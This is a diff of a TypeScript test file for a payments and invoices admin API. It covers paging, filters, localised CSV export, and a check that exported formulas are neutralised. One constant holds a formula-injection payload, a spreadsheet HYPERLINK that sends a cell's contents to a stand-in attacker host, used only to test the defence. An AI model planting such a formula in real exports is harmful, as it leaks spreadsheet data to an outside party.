@@ -1,6 +1,6 @@
 import { eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { INVOICE_STATES, type TInvoiceListItem, type TPage, type TPaymentListItem } from '@app/shared';
+import { INVOICE_STATES, type TInvoiceListItem, type TPage, type TPaymentListItem, paymentsApi } from '@app/shared';
 import type { TApp } from '../../app.js';
 import { rowsOf } from '../../db/sql-helpers.js';
 import { invoices } from '../../db/schema/index.js';
@@ -10,6 +10,7 @@ import { paymentsCsv } from './lists-csv.js';
 import { invoiceStateSql } from './lists.js';
 import { invoiceState } from './presenter.js';
 import { financeOf, MAIN_TOTAL_AED, pay, postRefund, staffAct } from './test-support.js';
+import { call } from '../../test/call.js';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
@@ -75,14 +76,14 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
     return params.toString();
   };
   const payments = async (query: string, headers = accounts): Promise<TPage<TPaymentListItem>> => {
-    const response = await app.inject({ url: `/api/admin/payments?${paged(query)}`, headers });
-    expect(response.statusCode, response.body).toBe(200);
-    return response.json().data;
+    const response = await call(app, paymentsApi.payments, { query: new URLSearchParams(paged(query)), headers });
+    expect(response.status, response.response.body).toBe(200);
+    return response.data;
   };
   const invoiceList = async (query: string): Promise<TPage<TInvoiceListItem>> => {
-    const response = await app.inject({ url: `/api/admin/invoices?${paged(query)}`, headers: accounts });
-    expect(response.statusCode, response.body).toBe(200);
-    return response.json().data;
+    const response = await call(app, paymentsApi.invoices, { query: new URLSearchParams(paged(query)), headers: accounts });
+    expect(response.status, response.response.body).toBe(200);
+    return response.data;
   };
 
   it('lists the ledger newest first (day received, then id), each entry with its invoice, order, client and recorder', async () => {
@@ -121,8 +122,8 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
     const page = await payments('pageSize=3&pageNumber=2');
     expect(page).toMatchObject({ totalCount: 6, pageNumber: 2, pageSize: 3 });
     expect(page.items.map((item) => item.id)).toEqual(all.items.slice(3).map((item) => item.id));
-    const pastTheEnd = await app.inject({ url: '/api/admin/payments?pageSize=3&pageNumber=9', headers: accounts });
-    expect(pastTheEnd.json().data).toMatchObject({ items: [], totalCount: 6 });
+    const pastTheEnd = await call(app, paymentsApi.payments, { query: { pageSize: 3, pageNumber: 9 }, headers: accounts });
+    expect(pastTheEnd.data).toMatchObject({ items: [], totalCount: 6 });
   });
 
   it("each of the ledger's filters returns only the rows that match", async () => {
@@ -247,12 +248,12 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
   });
 
   it('exports the ledger as CSV: BOM, headers in the reader language, amounts as numbers, a formula neutralised, the filters applied', async () => {
-    const response = await app.inject({ url: '/api/admin/payments.csv', headers: accounts });
-    expect(response.statusCode).toBe(200);
-    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(response.headers['content-disposition']).toBe('attachment; filename="payments.csv"');
-    expect(response.headers['cache-control']).toBe('no-store');
-    const body = response.rawPayload.toString('utf8');
+    const response = await call(app, paymentsApi.paymentsCsv, { headers: accounts });
+    expect(response.status).toBe(200);
+    expect(response.response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.response.headers['content-disposition']).toBe('attachment; filename="payments.csv"');
+    expect(response.response.headers['cache-control']).toBe('no-store');
+    const body = response.response.rawPayload.toString('utf8');
     expect(body.startsWith('\uFEFF"Date (UAE)","Receipt or voucher","Kind","Amount (AED)"')).toBe(true);
     const lines = body.slice(1).trimEnd().split('\r\n');
     expect(lines).toHaveLength(7);
@@ -262,7 +263,9 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
     expect(formulaLine).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
     expect(formulaLine).toMatch(/,8125\.00,"Bank transfer",/);
 
-    const arabicCsv = (await app.inject({ url: '/api/admin/payments.csv?kind=refund', headers: { ...accounts, ...arabic } })).rawPayload.toString('utf8');
+    const arabicCsv = (
+      await call(app, paymentsApi.paymentsCsv, { query: { kind: 'refund' }, headers: { ...accounts, ...arabic } })
+    ).response.rawPayload.toString('utf8');
     const [header, ...rows] = arabicCsv.slice(1).trimEnd().split('\r\n');
     expect(arabicCsv.startsWith('\uFEFF"التاريخ (بتوقيت الإمارات)","الإيصال أو السند","النوع","المبلغ (درهم)"')).toBe(true);
     expect(header).not.toMatch(/[A-Za-z]/);
@@ -272,11 +275,11 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
   });
 
   it('exports invoices and credit notes as CSV with the same filters, the line and the state in the reader language', async () => {
-    const response = await app.inject({ url: '/api/admin/invoices.csv?kind=invoice&state=credited', headers: { ...accounts, ...arabic } });
-    expect(response.statusCode).toBe(200);
-    expect(response.headers['content-disposition']).toBe('attachment; filename="invoices.csv"');
-    expect(response.headers['cache-control']).toBe('no-store');
-    const body = response.rawPayload.toString('utf8');
+    const response = await call(app, paymentsApi.invoicesCsv, { query: { kind: 'invoice', state: 'credited' }, headers: { ...accounts, ...arabic } });
+    expect(response.status).toBe(200);
+    expect(response.response.headers['content-disposition']).toBe('attachment; filename="invoices.csv"');
+    expect(response.response.headers['cache-control']).toBe('no-store');
+    const body = response.response.rawPayload.toString('utf8');
     expect(body.startsWith('\uFEFF"الرقم","المستند","تاريخ الإصدار (بتوقيت الإمارات)"')).toBe(true);
     const rows = body.slice(1).trimEnd().split('\r\n').slice(1);
     expect(rows).toHaveLength(3);
@@ -289,7 +292,7 @@ describe('payments: the /Payments and /Invoices lists and their CSV', () => {
     expect(rowOf('void')).toMatch(/,12500\.00,625\.00,13125\.00,0\.00,0\.00,13125\.00,0\.00,"","مُعاكَسة بإشعار دائن"$/);
     expect(rowOf('refundedOrder')).toMatch(/,13125\.00,13125\.00,13125\.00,13125\.00,0\.00,"","مُعاكَسة بإشعار دائن"$/);
     const search = `search=${orders.paid!.invoiceNumber}`;
-    const english = (await app.inject({ url: `/api/admin/invoices.csv?${search}`, headers: accounts })).rawPayload.toString('utf8');
+    const english = (await call(app, paymentsApi.invoicesCsv, { query: new URLSearchParams(search), headers: accounts })).response.rawPayload.toString('utf8');
     const { description } = (await invoiceList(search)).items[0]!;
     expect(description).toMatch(/^Main package: Maria Santos \(SK-\d+\)$/);
     expect(english.slice(1).trimEnd().split('\r\n')[1]).toBe(
